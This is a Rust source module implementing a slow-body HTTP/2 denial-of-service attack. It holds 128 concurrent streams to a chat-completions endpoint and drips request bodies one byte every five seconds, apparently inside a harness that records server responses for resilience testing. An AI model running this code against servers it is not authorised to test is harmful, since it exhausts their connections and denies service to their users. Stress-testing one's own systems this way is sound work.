//! Attack: sends the heads of many requests, and their bodies byte by byte with long pauses.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use http::HeaderValue;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::field::Field;
use super::session::{Session, begin};

pub(super) const CONNECTIONS: usize = 16;
const STREAMS: usize = 128;
const WINDOW: u32 = 65_535;
/// Pause between two bytes of a body.
const DRIP: Duration = Duration::from_secs(5);
/// Pause after an answered request.
const AGAIN: Duration = Duration::from_millis(200);

pub(super) async fn run(field: Arc<Field>) {
    let Ok(mut session) = Session::open(&field.http2, WINDOW).await else { return };
    let mut streams = JoinSet::new();
    for _ in 0..STREAMS {
        let (field, sender) = (Arc::clone(&field), session.sender());
        streams.spawn(async move {
            while let Some(status) = drip(&field, &sender).await {
                field.saw("slow-bodies", Some(status));
                sleep(AGAIN).await;
            }
        });
    }
    session.ended().await;
}

/// Sends one request until it is answered. Returns `None` if its stream has ended.
async fn drip(field: &Field, sender: &SendRequest<Bytes>) -> Option<u16> {
    let mut request = field.post("/v1/chat/completions");
    request.headers_mut().insert("content-length", HeaderValue::from_static("1000"));
    let (mut answer, mut body) = begin(sender, request).await.ok()?;
    loop {
        tokio::select! {
            answer = &mut answer => return answer.ok().map(|answer| answer.status().as_u16()),
            () = sleep(DRIP) => body.send_data(Bytes::from_static(b" "), false).ok()?,
        }
    }
}
